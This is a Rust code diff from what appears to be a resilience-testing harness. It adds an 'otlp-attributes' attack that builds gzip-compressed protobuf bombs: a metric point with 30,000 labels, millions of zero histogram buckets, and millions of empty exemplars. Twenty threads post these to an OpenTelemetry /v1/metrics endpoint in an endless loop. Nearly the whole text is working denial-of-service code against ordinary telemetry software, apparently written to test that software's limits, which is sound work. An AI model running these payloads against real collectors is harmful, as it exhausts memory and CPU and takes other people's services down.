@@ -13,9 +13,14 @@ pub(crate) const ATTACK: Attack = Attack::new("otlp-bomb", act);
 
 pub(crate) const ABANDONED: Attack = Attack::new("otlp-abandoned", abandon);
 
+pub(crate) const ATTRIBUTES: Attack = Attack::new("otlp-attributes", attributes);
+
 const METRICS: usize = 8_000_000;
 /// Of a request that is just not too large.
 const POINTS: usize = 32_000;
+/// Of one point, so that the request is just not too large, and who sends it.
+const LABELS: usize = 30_000;
+const LABEL_SENDERS: usize = 20;
 const SENDERS: usize = 4;
 
 fn act(target: &Target) -> anyhow::Result<()> {
@@ -28,18 +33,45 @@ fn act(target: &Target) -> anyhow::Result<()> {
         let kind = if kind == "json" { "application/json" } else { "application/x-protobuf" };
         (format!("content-type: {kind}\r\ncontent-encoding: gzip\r\n"), bomb)
     });
+    send(target, SENDERS, &bombs);
+    Ok(())
+}
+
+/// Attributes of one point, each small, beside buckets and exemplars that are nothing but zeros.
+fn attributes(target: &Target) -> anyhow::Result<()> {
+    let value = message(2, &message(1, &[b'v'; 90]));
+    let labels = (0..LABELS).flat_map(|n| {
+        let key = message(1, format!("k{n}").as_bytes());
+        message(7, &[key, value.clone()].concat())
+    });
+    let point = message(1, &labels.collect::<Vec<_>>());
+    let metric = |data: u8, point: &[u8]| {
+        let metric = [message(1, b"loss"), message(data, point)].concat();
+        message(1, &message(2, &message(2, &metric)))
+    };
+    let buckets = message(1, &message(6, &[0; 3_900_000]));
+    let exemplars = message(1, &message(5, &[]).repeat(1_300_000));
+    let mut bombs = Vec::new();
+    for bomb in [metric(5, &point), metric(9, &buckets), metric(5, &exemplars)] {
+        let headers = "content-type: application/x-protobuf\r\ncontent-encoding: gzip\r\n".to_owned();
+        bombs.push((headers, gzip(&bomb)?));
+    }
+    send(target, LABEL_SENDERS, &bombs);
+    Ok(())
+}
+
+fn send(target: &Target, senders: usize, bombs: &[(String, Vec<u8>)]) {
     std::thread::scope(|threads| {
-        for _ in 0..SENDERS {
+        for _ in 0..senders {
             threads.spawn(|| {
                 loop {
-                    for (headers, bomb) in &bombs {
+                    for (headers, bomb) in bombs {
                         let _ = post(target.exporter, "/v1/metrics", headers, bomb);
                     }
                 }
             });
         }
     });
-    Ok(())
 }
 
 /// As much as is read of one request, of a sender who is gone before it is.
